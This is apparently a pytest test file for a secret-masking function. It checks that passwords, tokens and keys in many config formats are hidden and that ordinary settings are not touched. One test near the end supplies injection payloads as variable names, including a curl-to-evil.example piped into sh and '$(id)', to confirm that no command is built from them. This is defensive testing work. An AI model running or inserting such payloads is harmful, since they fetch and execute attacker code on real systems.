"""What looks like a secret does not leave the host, however it is written; what does not look like one does."""

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from catalogue.masking import MARK, looks_secret, mask_secrets
from catalogue.systemd.parsing import sections
from infra.adopt.host import command, nginx
from infra.adopt.host.remarks import Remark
from tests import secret_names
from tests.support import ROOT

COMPOSE, UNIT, NGINX = "/srv/a/docker-compose.yml", "/etc/systemd/system/a.service", "/etc/nginx/sites-enabled/a"
HIDDEN = "hunter2hunter2"
WAYS = {
    "a mapping": (COMPOSE, "services:\n  api:\n    environment:\n      API_KEY: {}\n      MODE: fast\n"),
    "a quoted value": (COMPOSE, "services:\n  api:\n    environment:\n      API_KEY: '{}'\n"),
    "a quoted name": (COMPOSE, 'services:\n  api:\n    environment:\n      "API_KEY": {}\n'),
    "a list": (COMPOSE, "services:\n  api:\n    environment:\n      - MODE=fast\n      - DB_PASSWORD={}\n"),
    "a list at the key's own indent": (COMPOSE, "services:\n  api:\n    environment:\n    - DB_PASSWORD={}\n    image: x\n"),
    "a quoted list": (COMPOSE, 'services:\n  api:\n    environment:\n      - "DB_PASSWORD={} x"\n'),
    "a block": (COMPOSE, "services:\n  api:\n    environment:\n      API_KEY: |\n        line\n        {}\n      MODE: fast\n"),
    "several lines": (COMPOSE, 'services:\n  api:\n    environment:\n      API_KEY: "abc\n        {}"\n      MODE: fast\n'),
    "a plain value that goes on": (COMPOSE, "services:\n  api:\n    environment:\n      MODE: abc\n        {}\n"),
    "one line": (COMPOSE, "services:\n  api:\n    environment: {{API_KEY: {}, MODE: fast}}\n"),
    "one line over two": (COMPOSE, "services:\n  api:\n    environment: {{MODE: fast,\n      X: {}}}\n    image: x\n"),
    "an anchor": (COMPOSE, "x-env: &env\n  API_KEY: {}\nservices:\n  api:\n    environment:\n      <<: *env\n"),
    "a block with an anchor": (COMPOSE, "services:\n  api:\n    environment: &env\n      API_KEY: {}\n"),
    "a comment in it": (COMPOSE, "services:\n  api:\n    environment:\n      # it was {}\n      MODE: fast\n"),
    "a comment": (COMPOSE, "# API_KEY={}\nservices: {{}}\n"),
    "a password in an address": (COMPOSE, "services:\n  api:\n    environment:\n      DB: postgres://me:{}@db/x\n"),
    "an argument": (COMPOSE, "services:\n  api:\n    command: run --api-key {}\n"),
    "arguments in a list": (COMPOSE, 'services:\n  api:\n    command: [run, "--api-key", "{}", "--fast"]\n'),
    "arguments in lines": (COMPOSE, "services:\n  api:\n    command:\n      - run\n      - --api-key\n      - {}\n      - --fast\n"),
    "an option in a quoted item": (COMPOSE, 'services:\n  api:\n    command:\n      - "--token={}"\n'),
    "a label": (COMPOSE, 'services:\n  api:\n    labels:\n      - "a.auth.users={}"\n      - b=c\n'),
    "a mapping in one line elsewhere": (COMPOSE, "x-more: {{mode: fast, api_key: {}}}\nimage: x\n"),
    "an assignment after another": (NGINX, "# mode: fast, password: {}\n"),
    "a build argument": (COMPOSE, "services:\n  api:\n    build:\n      args:\n        NPM_TOKEN: {}\n"),
    "a unit's variable": (UNIT, "[Service]\nEnvironment=MODE=fast API_KEY={}\n"),
    "a quoted variable": (UNIT, '[Service]\nEnvironment="API_KEY={} and more" MODE=fast\n'),
    "a variable on the next line": (UNIT, "[Service]\nEnvironment=MODE=fast \\\n  API_KEY={}\n"),
    "a unit's argument": (UNIT, "[Service]\nExecStart=/usr/bin/x --password={} --fast\n"),
    "a variable for a container": (UNIT, "[Service]\nExecStart=/usr/bin/docker run -e API_KEY={} -e MODE=fast x\n"),
    "a unit's comment": (UNIT, "[Service]\n# API_KEY={}\n"),
    "a proxy's header": (NGINX, 'location / {{ proxy_set_header X-Api-Key "{}"; }}\n'),
    "a proxy's login": (NGINX, 'location / {{ proxy_set_header Authorization "Bearer {}"; }}\n'),
    "a login of Docker": ("/root/.docker/config.json", '{{"auths": {{"r": {{\n"auth": "{}"\n}}}}}}\n'),
    "arguments in a list without quotes": (COMPOSE, "services:\n  api:\n    command: [redis-server, --requirepass, {}, --fast]\n"),
    "a short name": (COMPOSE, "services:\n  api:\n    environment:\n      DB_PASS: {}\n      MODE: fast\n"),
    "a short name in a unit": (UNIT, "[Service]\nEnvironment=MODE=fast DB_PASS={}\n"),
    "a short name in an argument": (UNIT, "[Service]\nExecStart=/usr/bin/redis-server --requirepass {}\n"),
    "a short option": (UNIT, "[Service]\nExecStart=/usr/bin/x --pass {}\n"),
    "a password of Redis as text": (COMPOSE, "services:\n  api:\n    command: redis-server --requirepass {}\n"),
    "a password of Redis in a list": (COMPOSE, 'services:\n  api:\n    command: ["redis-server", "--requirepass", "{}"]\n'),
    "a password of Redis in lines": (COMPOSE, "services:\n  api:\n    command:\n      - redis-server\n      - --requirepass\n      - {}\n"),
    "a list over several lines": (COMPOSE, 'services:\n  api:\n    command: [\n      "redis-server",\n      "--requirepass",\n      "{}"\n    ]\n'),
    "folded arguments": (COMPOSE, "services:\n  api:\n    command: >\n      redis-server\n      --requirepass\n      {}\n    init: true\n"),
    "an option after another": (UNIT, "[Service]\nExecStart=/usr/bin/x --fast --password {}\n"),
    "a value with options in it": (COMPOSE, "services:\n  api:\n    environment:\n      OPTS: -Xmx1g -Ddb.password={}\n      MODE: fast\n"),
    "a value that looks like names": (COMPOSE, "services:\n  api:\n    environment: {{DB_PASSWORD: ',{}:', MODE: fast}}\n"),
    "a credential": (UNIT, "[Service]\nSetCredential=dbtoken:{}\n"),
    "an encrypted credential": (UNIT, "[Service]\nSetCredentialEncrypted=db: \\\n  abc \\\n# comment\n  {}\n"),
    "a header for curl": (UNIT, '[Service]\nExecStart=/usr/bin/curl -H "X-Api-Key: {}" http://a/\n'),
    "a header for curl without a space": (UNIT, "[Service]\nExecStart=/usr/bin/curl -H X-Api-Key:{} http://a/\n"),
    "a header in a healthcheck": (COMPOSE, 'services:\n  api:\n    healthcheck:\n      test: ["CMD", "curl", "-H", "X-Api-Key:{}", "a"]\n'),
    "a shell in a unit": (UNIT, "[Service]\nExecStart=/bin/sh -c 'echo TOKEN: {}'\n"),
    "a login for curl": (UNIT, "[Service]\nExecStart=/usr/bin/curl -s -u admin:{} http://a/\n"),
    "a login for curl, glued": (COMPOSE, "services:\n  api:\n    command: curl -uadmin:{} http://a/\n"),
    "a login for curl in lines": (COMPOSE, "services:\n  api:\n    command:\n      - curl\n      - -u\n      - admin:{}\n"),
    "a password of MySQL": (UNIT, "[Service]\nExecStart=/usr/bin/mysql -uroot -p{} shop\n"),
    "a password of MySQL in a healthcheck": (COMPOSE, 'services:\n  api:\n    healthcheck:\n      test: ["CMD", "mysqladmin", "ping", "-p{}"]\n'),
    "a password of MySQL in lines": (COMPOSE, "services:\n  api:\n    command:\n      - mysqladmin\n      - ping\n      - -p{}\n"),
    "a password of Redis's client": (COMPOSE, "services:\n  api:\n    command: redis-cli -a {} ping\n"),
    "a webhook of Slack": (COMPOSE, "services:\n  api:\n    environment:\n      NOTIFY: https://hooks.slack.com/services/T0/B0/{}\n      MODE: fast\n"),
    "a webhook in a unit": (UNIT, "[Service]\nExecStart=/usr/bin/curl https://hooks.slack.com/services/T0/B0/{}\n"),
    "a key in an address": (COMPOSE, "services:\n  api:\n    environment:\n      REPORT: https://{}@sentry.io/1\n      MODE: fast\n"),
    "a password with a slash in an address": (COMPOSE, "services:\n  api:\n    environment:\n      DB: postgres://me:a/{}@db/x\n"),
    "a password with an @ in an address": (UNIT, "[Service]\nExecStart=/usr/bin/x postgres://me:a@{}@db/x\n"),
    "a hash of htpasswd": (COMPOSE, 'services:\n  api:\n    labels:\n      - "foo.users=admin:$$apr1$$abc$${}"\n'),
    "a hash of bcrypt": (COMPOSE, "services:\n  api:\n    labels:\n      foo.users: admin:$$2y$$05$${}\n"),
    "a proxy's condition": (NGINX, 'if ($http_x_api_key != "{}") {{ return 403; }}\n'),
    "a proxy's condition by a pattern": (NGINX, "if ($arg_token !~ ^{}$) {{\n    return 403;\n}}\n"),
    "a proxy's condition in a line": (NGINX, "location = /x {{ if ($cookie_a ~ b) {{ return 1; }} if ($arg_token = {}) {{ return 2; }} }}\n"),
    "a proxy's map": (NGINX, 'map $http_x_api_key $ok {{ "{}" 1; }}\n'),
    "a proxy's map in lines": (NGINX, "map $http_x_api_key $ok {{\n    default 0; # it's {}\n    '~^{}' 1;\n}}\n".replace("{}", "{0}")),
    "a map to a secret": (NGINX, "map $host $backend_token {{\n    a.example.com {};\n}}\n"),
    "a proxy's header on two lines": (NGINX, 'location / {{\n    proxy_set_header X-Api-Key\n        "{}";\n}}\n'),
    "a secret of a proxy's link": (NGINX, "location / {{ secure_link_secret {}; }}\n"),
    "a proxy's other login": (NGINX, "proxy_set_header Authorization {};\n"),
    "a settings file": ("/srv/a/config.toml", 'secret_key = "{}"\n'),
}  # fmt: skip


@pytest.mark.parametrize(("path", "text"), WAYS.values(), ids=WAYS)
def test_a_secret_does_not_leave(path, text):
    shown = mask_secrets(path, text.format(HIDDEN))
    assert HIDDEN not in shown
    if path == COMPOSE and "image" not in text:
        assert yaml.safe_load(shown)


@pytest.mark.parametrize("name", secret_names.SECRET)
def test_a_secret_is_known_by_its_name(name):
    assert looks_secret(name)
    text = f"services:\n  api:\n    environment:\n      {name}: hunter2\n    image: x\n"
    assert yaml.safe_load(mask_secrets(COMPOSE, text))["services"]["api"] == {"environment": {name: MARK}, "image": "x"}
    assert "hunter2" not in mask_secrets(UNIT, f"[Service]\nEnvironment={name}=hunter2\n")


@pytest.mark.parametrize("name", secret_names.PLAIN)
def test_ordinary_names_are_not_secret(name):
    assert not looks_secret(name)


MORE_WAYS = {
    "two spaces after an option": (UNIT, "[Service]\nExecStart=/usr/bin/a --token  {}\n"),
    "an option on the next line": (UNIT, "[Service]\nExecStart=/usr/bin/a --password \\\n  {}\n"),
    "a section with a capital": ("/etc/wireguard/wg0.conf", "[Interface]\nPrivateKey = {}\n"),
    "a program's own sections": ("/srv/app.conf", "[Database]\nPassword = {}\n"),
    "a word with quotes in it": (UNIT, '[Service]\nEnvironment=DB_PASSWORD="x {}"\n'),
    "a word with single quotes in it": (UNIT, "[Service]\nEnvironment=DB_PASSWORD='x {}'\n"),
    "a word with a space in it": (UNIT, "[Service]\nEnvironment=DB_PASSWORD=x\\ {}\n"),
    "an escaped quote": (UNIT, '[Service]\nEnvironment="DB_PASSWORD=x\\"y {}"\n'),
    "a value over two lines": ("/srv/.env", 'export DB_PASSWORD="a\n{}"\nMODE=fast\n'),
    "a header of Caddy's": ("/etc/caddy/Caddyfile", 'header X-Api-Key "{}"\n'),
    "a header with a condition": ("/etc/caddy/Caddyfile", "header @api +X-Auth-Token {}\n"),
    "a header that Caddy sends on": ("/etc/caddy/Caddyfile", "  header_up X-Api-Key {}\n"),
    "a password of Redis": ("/etc/redis/redis.conf", "requirepass {}\n"),
    "a key of Caddy's for AWS": ("/etc/caddy/Caddyfile", "  secret_access_key {}\n"),
    "an element": ("/srv/app.xml", "<password>{}</password>\n"),
    "a key of an authority's account": ("/etc/caddy/Caddyfile", "  mac_key {}\n"),
    "a header that Caddy compares": ("/etc/caddy/Caddyfile", "@known header X-Token {}\n"),
    "an option of MongoDB's": ("/x.sh", "mongodump --host a -u x -p {} --out b\n"),
    "an option of OpenSSL's": ("/x.sh", "openssl enc -aes-256-cbc -k {} -in a\n"),
    "an option of LDAP's": ("/x.sh", "ldapsearch -x -D cn=a -w {} b\n"),
    "a user of a site": ("/x.sh", "htpasswd -nbB shop {}\n"),
    "a user of a site, in a file": ("/x.sh", "htpasswd -b /etc/nginx/users shop {}\n"),
    "a signed address": ("/srv/.env", "PLACE=https://a.blob.core.windows.net/b?sv=1&sig={}&sr=c\n"),
    "a constant of PHP's": ("/srv/config.php", "define('DB_PASSWORD', '{}');\n"),
    "a login of netrc": ("/root/.netrc", "machine a.example.com login b password {}\n"),
    "a login of PostgreSQL's": ("/root/.pgpass", "# host:port\ndb:5432:*:shop:{}\n"),
    "a role of SQL": ("/srv/a.sql", "CREATE ROLE shop WITH LOGIN PASSWORD '{}';\n"),
    "a user of SQL": ("/srv/a.sql", "CREATE USER shop IDENTIFIED BY '{}';\n"),
    "a user of Redis'": ("/etc/redis/users.acl", "user shop on >{} ~* +@all\n"),
    "a user of coturn's": ("/etc/turnserver.conf", "user=shop:{}\n"),
    "a login of HAProxy's page": ("/etc/haproxy/haproxy.cfg", "  stats auth admin:{}\n"),
    "a user of HAProxy's": ("/etc/haproxy/haproxy.cfg", "  user shop insecure-password {}\n"),
    "a login of LDAP's": ("/etc/nslcd.conf", "bindpw {}\n"),
    "a variable of Apache's": ("/etc/apache2/a.conf", "SetEnv DB_PASSWORD {}\n"),
    "a variable of an image": ("/srv/Dockerfile", "ENV DB_PASSWORD {}\n"),
    "a variable that grows": ("/x.sh", "DB_PASSWORD+={}\n"),
    "an entry of PHP-FPM's": ("/etc/php/pool.d/www.conf", "env[DB_PASSWORD] = {}\n"),
    "an entry of PHP's": ("/srv/config.php", "$db['password'] = '{}';\n"),
    "an entry of Python's": ("/srv/a.py", "os.environ['DB_PASSWORD'] = '{}'\n"),
    "a property": ("/srv/app.properties", "db.password {}\n"),
    "a network's key": ("/etc/wpa.conf", '  psk="{}"\n'),
}


@pytest.mark.parametrize(("path", "text"), MORE_WAYS.values(), ids=MORE_WAYS)
def test_a_secret_does_not_leave_in_other_programs_files(path, text):
    assert HIDDEN not in mask_secrets(path, text.format(HIDDEN))


HARMLESS = {
    "a header for any site": (NGINX, 'add_header Access-Control-Allow-Credentials "true";\n'),
    "a header that is taken away": (NGINX, 'proxy_set_header Cookie "";\n'),
    "a header that is handed on": (NGINX, "proxy_set_header X-Token $token;\n"),
    "a variable that is no": (NGINX, "set $auth_ok 0;\n"),
    "options of a model": (UNIT, "[Service]\nExecStart=/usr/bin/a --max-tokens 100 --key-size=2048\n"),
    "a setting in YAML": (
        COMPOSE,
        "services:\n  a:\n    environment:\n      MAX_TOKENS: 4096\n      COOKIE_SECURE: 'true'\n",
    ),
    "a user of Nginx's": ("/etc/nginx/nginx.conf", "user nginx nginx;\n"),
    "a look at a certificate": ("/x.sh", "openssl x509 -in a.pem -noout -ext subjectAltName\n"),
    "a constant that is no secret": ("/srv/config.php", "define('APP_NAME', 'shop');\n"),
    "a file of passwords": ("/x.sh", "htpasswd -c /etc/nginx/users shop\n"),
    "a comment of SQL": ("/srv/a.sql", "-- the column PASSWORD is gone\n"),
    "a place in PostgreSQL's terms": ("/srv/a.conf", "db:5432:shop:app:x\n"),
    "a setting in TOML": ("/a.toml", 'max_tokens = 4096\ntokenizer = "bpe"\n'),
}


@pytest.mark.parametrize(("path", "text"), HARMLESS.values(), ids=HARMLESS)
def test_settings_are_no_secrets(path, text):
    assert mask_secrets(path, text) == text


def pem(kind: str, body: str) -> str:
    return f"-----BEGIN {kind}-----\n{body}\n-----END {kind}-----\n"


def test_certificates_are_public():
    """In base64 any letters can come together, such as those of a password's name."""
    body = "MIIBszCCAVqgAwIBAgIUVq\nugymn64imallpwdOawevJRGkJ9FaUM0rIVaxmwsuQg=TokenToken"
    text = pem("CERTIFICATE", body)
    assert mask_secrets("/usr/local/share/ca-certificates/root.crt", text * 2) == text * 2
    for other in (f"{text}PASSWORD=hunter22\n", pem("CERTIFICATE", "password=hunter22"), pem("PRIVATE KEY", body)):
        assert mask_secrets("/etc/x.crt", other) != other


@pytest.mark.parametrize("text", ["ADMIN_PASSWORD=4711\n", "PIN=1234\n", "DB_PASS=yes-it-is\n", "TOKEN=$ecret\n"])
def test_short_secrets_are_secrets(text):
    assert MARK in mask_secrets("/a.env", text)


PROXIES = [text for path, text in WAYS.values() if path == NGINX and "{{" in text]


@pytest.mark.parametrize("text", PROXIES)
def test_masked_nginx_configuration_still_parses(text):
    assert nginx.parse(mask_secrets(NGINX, text.format(HIDDEN)))


@pytest.mark.parametrize("name", [name for name, (path, text) in WAYS.items() if "MODE" in text and "DB" not in text])
def test_settings_beside_a_masked_value_stay_readable(name):
    path, text = WAYS[name]
    assert "MODE" in mask_secrets(path, text.format(HIDDEN))


def test_the_name_of_a_masked_variable_is_shown():
    text = "services:\n  api:\n    environment:\n      API_KEY: x\n      MODE: fast\n    image: a\n"
    body = yaml.safe_load(mask_secrets(COMPOSE, text))["services"]["api"]
    assert body == {"environment": {"API_KEY": MARK, "MODE": "fast"}, "image": "a"}
    unit = sections(mask_secrets(UNIT, '[Service]\nEnvironment=A=1 "API_KEY=x y" B=2\n'))
    assert unit["Service"]["Environment"] == f'A=1 "API_KEY={MARK}" B=2'


WORDS = st.text("abcdefghijklmnopqrstuvwxyzABCXYZ0123456789!#$%*+,./:;<=>?@[]^_|~-", min_size=8, max_size=40).filter(
    lambda word: word[0].isalnum() and word not in MARK and word.lower() not in "services environment password"
)


@given(WORDS, st.sampled_from(["'", '"', ""]), st.booleans())
def test_no_value_under_a_secret_name_is_left(value, quote, as_list):
    item = f"- {quote}DB_PASSWORD={value}{quote}" if as_list else f"DB_PASSWORD: {quote}{value}{quote}"
    text = f"services:\n  api:\n    environment:\n      {item}\n    image: x\n"
    assert value not in mask_secrets(COMPOSE, text)
    assert value not in mask_secrets(UNIT, f"[Service]\nEnvironment={quote}DB_PASSWORD={value}{quote}\n")


AROUND = st.text(st.characters(codec="utf-8", exclude_categories=["Cs", "Cc"], include_characters="\n "), max_size=90)


@given(AROUND, AROUND, st.booleans(), st.sampled_from([None, False, True]), st.integers(20, 200))
def test_secret_is_masked_in_every_yaml_notation(before, after, as_list, flow, width):
    value = f"{before}{HIDDEN}{after}"
    environment = [f"DB_PASSWORD={value}", "MODE=fast"] if as_list else {"DB_PASSWORD": value, "MODE": "fast"}
    data = {"services": {"api": {"environment": environment, "image": "x"}}}
    text = yaml.safe_dump(data, default_flow_style=flow, width=width, allow_unicode=True)
    assert HIDDEN not in mask_secrets(COMPOSE, text), text


@pytest.mark.parametrize("path", ["compose.service.j2", "site.conf.j2", "network.service.j2"])
def test_templates_without_secrets_stay_unchanged(path):
    text = (ROOT / "files/templates" / path).read_text()
    assert mask_secrets(UNIT if "service" in path else NGINX, text) == text


KEPT = {
    "an account": (UNIT, "[Service]\nExecStart=/usr/bin/docker run -u 1000:1000 -p 127.0.0.1:3306:3306 mysql:8\n"),
    "what a unit is": (UNIT, "[Unit]\nDescription=Auth: the login\n[Service]\nExecStart=/usr/bin/x --fast -v\n"),
    "a proxied header": (NGINX, "proxy_set_header Authorization $http_authorization;\nproxy_set_header X-Api-Key $http_x_api_key;\n"),
    "a pass": (NGINX, "location ~ ^/token { proxy_pass http://127.0.0.1:8017/$1$request_uri; }\n"),
    "a condition": (NGINX, "if ($request_method !~ ^(GET|POST)$) { return 405; }\n"),
    "a map": (NGINX, "map $http_upgrade $connection_upgrade { default upgrade; '' close; }\n"),
    "an address": (COMPOSE, "services:\n  api:\n    environment:\n      URL: http://db:8080/users/@me\n"),
    "a file": (UNIT, "[Service]\nExecStart=/usr/bin/x --cert-key /etc/x.pem --fast\nLoadCredential=token:/etc/token\n"),
}  # fmt: skip


@pytest.mark.parametrize(("path", "text"), KEPT.values(), ids=KEPT)
def test_values_similar_to_secrets_stay_unchanged(path, text):
    assert mask_secrets(path, text) == text


@pytest.mark.parametrize(
    "line",
    [
        "image: 754724220380.dkr.ecr.ap-southeast-2.amazonaws.com/watchme-web@sha256:" + "0a1b2c3d" * 8,
        "container_name: watchme-avatar-uploader-production-instance-2",
        "- ./tokens:/var/lib/tokens:ro",
        '- "/run/secrets/api_key:/run/secrets/api_key"',
        "- ./data/2025/a-very-long-folder-name-that-goes-on:/var/lib/data",
        "test: [CMD, curl, -f, 'http://localhost:8017/health']",
    ],
)
def test_long_names_are_no_secrets(line):
    text = (
        f"services:\n  api:\n    {line}\n"
        if not line.startswith("-")
        else f"services:\n  api:\n    volumes:\n    {line}\n"
    )
    assert mask_secrets(COMPOSE, text) == text


def test_partly_masked_file_cannot_be_parsed_as_a_whole_one():
    text = "services:\n  a:\n    environment: {MODE: it's}\n  b:\n    image: x\n"
    with pytest.raises(yaml.YAMLError):
        yaml.safe_load(mask_secrets(COMPOSE, text))


@pytest.mark.parametrize(
    "name", ["KEY;curl${IFS}evil.example|sh;#", "A B", "$(id)", "KEY\x1b[2K", "A\nB", "--help", ""]
)
def test_no_command_is_made_of_a_name_that_no_variable_has(name):
    line = command._secret_line(Remark("secret", "app", name))
    assert not line.startswith("infra") and "\x1b" not in line and "\n" not in line


def test_command_for_a_secret_names_the_secret():
    line = command._secret_line(Remark("secret", "app", "API_KEY"))
    assert line == "infra secret set app.API_KEY"
